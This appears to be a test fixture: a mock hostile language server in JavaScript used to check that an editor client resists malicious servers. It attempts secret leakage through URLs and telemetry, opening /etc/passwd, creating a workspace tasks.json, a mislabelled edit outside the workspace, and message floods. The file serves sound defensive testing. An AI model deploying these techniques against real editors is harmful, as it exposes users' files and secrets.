// A server that an attacker controls. It behaves until a document called attack-NAME.txt changes; then it tries that attack.
// It writes what it sees and the answers it gets to stderr, which the client copies into its log.
import { StringDecoder } from "node:string_decoder";
import { setTimeout as delay } from "node:timers/promises";

/** A text that only a reader of files can know. */
const secret = "hunter2";
const answers = new Map();
let [folder, nextId] = ["", 1];

const attacks = {
  "open-browser": () => ask("window/showDocument", { uri: `http://127.0.0.1:9/?${secret}`, external: true }),
  "open-file": () => ask("window/showDocument", { uri: "file:///etc/passwd", takeFocus: true }),
  "write-file": () => {
    const uri = `${folder}/.vscode/tasks.json`;
    const start = { line: 0, character: 0 };
    const edits = [{ range: { start, end: start }, newText: "{}" }];
    const documentChanges = [
      { kind: "create", uri },
      { textDocument: { uri, version: null }, edits },
    ];
    return ask("workspace/applyEdit", { edit: { documentChanges } });
  },
  "read-settings": () => {
    const sections = [undefined, "", "files", "http", "terminal.integrated", "inhouse.trace", "workbench"];
    return ask("workspace/configuration", { items: sections.map((section) => ({ section })) });
  },
  "register-command": () => {
    const registerOptions = { commands: ["hostile.command"] };
    return ask("client/registerCapability", {
      registrations: [{ id: "1", method: "workspace/executeCommand", registerOptions }],
    });
  },
  "register-formatter": () => {
    const registrations = [{ id: "2", method: "textDocument/formatting", registerOptions: {} }];
    return ask("client/registerCapability", { registrations });
  },
  "ask-user": () => ask("window/showMessageRequest", { type: 3, message: "Hostile question", actions: [] }),
  "tell-user": () => tell("window/showMessage", { type: 1, message: "Hostile message" }),
  telemetry: () => tell("telemetry/event", { secret }),
  diagnostics: () => {
    const range = { start: { line: 0, character: 0 }, end: { line: 0, character: 1 } };
    const uri = `${folder}/src/money.ts`;
    const href = `http://127.0.0.1:9/?${secret}`;
    const diagnostics = [{ range, message: "Hostile", code: "x", codeDescription: { href } }];
    return tell("textDocument/publishDiagnostics", { uri, diagnostics });
  },
  "huge-message": () => process.stdout.write("Content-Length: 2000000000\r\n\r\n{"),
  "endless-header": async () => {
    for (let n = 0; n < 64; n++) process.stdout.write("X".repeat(1024));
  },
  "deep-message": () => send("[".repeat(100_000) + "]".repeat(100_000)),
  flood: async () => {
    for (let n = 0; ; n++) {
      tell("inhouse/status", { state: "ready", seal: "sealed", message: `Flood ${n}` });
      if (n % 1000 === 0) await delay(0);
    }
  },
};

const results = {
  initialize: ({ workspaceFolders }) => {
    folder = workspaceFolders[0].uri;
    return {
      capabilities: {
        textDocumentSync: { openClose: true, change: 2, save: true },
        inlineCompletionProvider: true,
        codeActionProvider: { codeActionKinds: ["quickfix", "refactor"], resolveProvider: true },
        executeCommandProvider: { commands: ["inhouse.completionAccepted", "hostile.command"] },
        ...{ hoverProvider: true, documentSymbolProvider: true, documentLinkProvider: {} },
        ...{ codeLensProvider: {}, foldingRangeProvider: true, inlayHintProvider: true },
        ...{ documentHighlightProvider: true, colorProvider: true, selectionRangeProvider: true },
        diagnosticProvider: { interFileDependencies: true, workspaceDiagnostics: true },
        workspace: {
          workspaceFolders: { supported: true, changeNotifications: true },
          fileOperations: { willRename: { filters: [{ pattern: { glob: "**" } }] } },
        },
      },
    };
  },
  "textDocument/inlineCompletion": ({ position }) => [
    {
      insertText: "hostileText",
      range: { start: position, end: position },
      command: { title: "", command: "workbench.action.files.newUntitledFile", arguments: [] },
    },
  ],
  "inhouse/edit": ({ range }) => {
    const uri = `${folder}/../outside.txt`;
    const start = { line: 0, character: 0 };
    const edits = [{ range: { start, end: start }, newText: "hostile", annotationId: "one" }];
    return {
      ...{ outcome: "edited", range, warnings: [], answer: "" },
      edit: {
        documentChanges: [
          { kind: "create", uri, annotationId: "one" },
          { textDocument: { uri, version: null }, edits },
        ],
        changeAnnotations: { one: { label: "Harmless" } },
      },
      figures: { model: "m", promptTokens: 0, generatedTokens: 0, copiedTokens: 0, totalMs: 0 },
    };
  },
};

function received(message) {
  const { id, method, params } = message;
  if (method === undefined) {
    note(`ANSWERED ${answers.get(id)} ${JSON.stringify(message.error ? "error" : message.result)}`);
    return;
  }
  if (method === "exit") process.exit(0);
  if (id !== undefined) {
    note(`ASKED ${method}`);
    send(JSON.stringify({ jsonrpc: "2.0", id, result: results[method]?.(params) ?? null }));
  }
  if (method === "initialized") tell("inhouse/status", { state: "ready", seal: "sealed" });
  const name = /attack-([\w-]+)\.txt$/.exec(params?.textDocument?.uri ?? "")?.[1];
  if (method === "textDocument/didChange" && name !== undefined) {
    note(`BEGAN ${name}`);
    attacks[name]();
  }
}

function ask(method, params) {
  const id = nextId++;
  answers.set(id, method);
  send(JSON.stringify({ jsonrpc: "2.0", id, method, params }));
}

function tell(method, params) {
  send(JSON.stringify({ jsonrpc: "2.0", method, params }));
}

function send(body) {
  process.stdout.write(`Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
}

function note(line) {
  process.stderr.write(`HOSTILE ${line}\n`);
}

const decoder = new StringDecoder("latin1");
let waiting = "";
process.stdin.on("data", (bytes) => {
  waiting += decoder.write(bytes);
  for (;;) {
    const head = /^Content-Length: (\d+)\r\n(?:.*\r\n)*?\r\n/i.exec(waiting);
    const end = head === null ? Number.POSITIVE_INFINITY : head[0].length + Number(head[1]);
    if (waiting.length < end) return;
    const body = Buffer.from(waiting.slice(head[0].length, end), "latin1").toString();
    waiting = waiting.slice(end);
    received(JSON.parse(body));
  }
});
